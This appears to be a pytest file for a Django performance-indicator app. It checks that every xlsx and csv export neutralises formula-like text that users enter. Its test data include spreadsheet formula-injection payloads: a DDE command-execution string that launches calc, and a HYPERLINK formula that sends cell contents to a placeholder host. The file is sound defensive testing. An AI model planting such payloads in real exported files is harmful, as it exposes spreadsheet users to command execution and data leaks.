"""Every indikator download writes what users typed as text: no live formula reaches the reader's Excel.

One table over every export: the SKP's RHK sheet, the unit indicators' sheet, and the admin's
export of every indikator model in xlsx and csv (issue 8 §2).
"""

import csv
import io

import pytest
from django import forms
from openpyxl import load_workbook

from core.formats import CSV, FORMULA_STARTS
from indikator.models import (
    EkspektasiKhusus,
    IndikatorKinerja,
    IndikatorKinerjaIndividu,
    MatriksPeranHasil,
    PanduanPerilaku,
    PerilakuKerja,
    PeriodePenilaian,
    RealisasiIndikator,
    RencanaHasilKerja,
    SasaranStrategis,
    Skp,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://contoh.test/?q="&A1,"klik")'

# model of the admin → (the text planted in one of its rows, how it is planted)
ADMIN_PAYLOADS = {
    "periode": None,  # a year has no free text: its export must still hold no formula
    "periodepenilaian": "=1+1",
    "sasaranstrategis": "+62 811 0000",
    "indikatorkinerja": "-5 persen",
    "realisasiindikator": "@SUM(A1:A9)",
    "perilakukerja": HYPERLINK,
    "panduanperilaku": "=2*3",
    "skp": HYPERLINK,
    "rencanahasilkerja": "=cmd|' /C calc'!A0",
    "indikatorkinerjaindividu": "+1+1",
    "ekspektasikhusus": "-1+1",
    "matriksperanhasil": "@cmd",
}


@pytest.fixture
def planted(chain):
    """The chain's data with formula-like text in one text field of every indikator model."""
    p = ADMIN_PAYLOADS
    periode_penilaian = (
        PeriodePenilaian.objects.filter(periode=chain.periode).order_by("nomor").first()
    )
    PeriodePenilaian.objects.filter(pk=periode_penilaian.pk).update(
        nama=p["periodepenilaian"]
    )
    SasaranStrategis.objects.filter(pk=chain.indikator.sasaran_id).update(
        nama=p["sasaranstrategis"]
    )
    IndikatorKinerja.objects.filter(pk=chain.indikator.pk).update(
        nama=p["indikatorkinerja"], satuan="=A1"
    )
    RealisasiIndikator.objects.create(
        indikator=chain.indikator,
        periode_penilaian=periode_penilaian,
        nilai=5,
        keterangan=p["realisasiindikator"],
    )
    perilaku = PerilakuKerja.objects.order_by("urutan").first()
    PerilakuKerja.objects.filter(pk=perilaku.pk).update(definisi=p["perilakukerja"])
    PanduanPerilaku.objects.filter(
        pk=perilaku.panduan.order_by("urutan").first().pk
    ).update(uraian=p["panduanperilaku"])
    Skp.objects.filter(pk=chain.skp_kasi.pk).update(dukungan_sumber_daya=p["skp"])
    RencanaHasilKerja.objects.filter(pk=chain.rhk_kasi.pk).update(
        uraian=p["rencanahasilkerja"]
    )
    IndikatorKinerjaIndividu.objects.filter(pk=chain.iki_kasi.pk).update(
        uraian=p["indikatorkinerjaindividu"], satuan="-", target_kualitatif="@A1"
    )
    EkspektasiKhusus.objects.create(
        skp=chain.skp_kasi, perilaku=perilaku, uraian=p["ekspektasikhusus"]
    )
    MatriksPeranHasil.objects.create(
        iki_atasan=chain.iki_kasi,
        pegawai=chain.org.staf,
        peran_hasil=p["matriksperanhasil"],
    )
    return chain


def _skp_export(client, chain):
    client.force_login(chain.org.kabid.akun)  # the atasan downloads the bawahan's sheet
    response = client.get(f"/indikator/skp/{chain.skp_kasi.pk}/ekspor/")
    return response, [
        ADMIN_PAYLOADS["rencanahasilkerja"],
        ADMIN_PAYLOADS["indikatorkinerjaindividu"],
        "-",
        "@A1",
    ]


def _indikator_export(client, chain):
    client.force_login(chain.org.admin.akun)
    response = client.get("/indikator/ekspor/")
    return response, [ADMIN_PAYLOADS["indikatorkinerja"], "=A1"]


def _admin_export(model, title):
    def export(client, chain):
        client.force_login(_superuser())
        url = f"/admin/indikator/{model}/export/"
        form = client.get(url).context["form"]
        data = {
            name: "on"
            for name, field in form.fields.items()
            if isinstance(field, forms.BooleanField)
        }
        data["resource"] = "0"
        data["format"] = next(
            value for value, label in form.fields["format"].choices if label == title
        )
        payload = ADMIN_PAYLOADS[model]
        return client.post(url, data), [payload] if payload else []

    return export


def _superuser():
    from organisasi.models import Pengguna

    return Pengguna.objects.filter(
        is_superuser=True
    ).first() or Pengguna.objects.create_superuser(
        "super-ekspor", password="rahasia-uji-123"
    )


XLSX_EXPORTS = [
    pytest.param(_skp_export, id="skp-rhk"),
    pytest.param(_indikator_export, id="indikator-unit"),
] + [
    pytest.param(_admin_export(model, "xlsx"), id=f"admin-{model}")
    for model in ADMIN_PAYLOADS
]
CSV_EXPORTS = [
    pytest.param(_admin_export(model, "csv"), id=f"admin-{model}")
    for model in ADMIN_PAYLOADS
]


@pytest.mark.parametrize("export", XLSX_EXPORTS)
def test_every_xlsx_export_writes_formula_like_text_as_text_unchanged(
    client, planted, export
):
    response, payloads = export(client, planted)

    assert response.status_code == 200, response.content[:300]
    cells = [
        cell
        for sheet in load_workbook(io.BytesIO(response.content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    for payload in payloads:
        assert [
            (cell.value, cell.data_type) for cell in cells if cell.value == payload
        ] != []
        assert {cell.data_type for cell in cells if cell.value == payload} == {"s"}


@pytest.mark.parametrize("export", CSV_EXPORTS)
def test_every_admin_csv_export_escapes_formulas_and_reads_back_unchanged(
    client, planted, export
):
    response, payloads = export(client, planted)

    assert response.status_code == 200, response.content[:300]
    cells = [
        cell
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        for cell in row
    ]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    read_back = [
        value for row in CSV().create_dataset(response.content) for value in row
    ]
    for payload in payloads:
        assert "'" + payload in cells
        assert payload in read_back
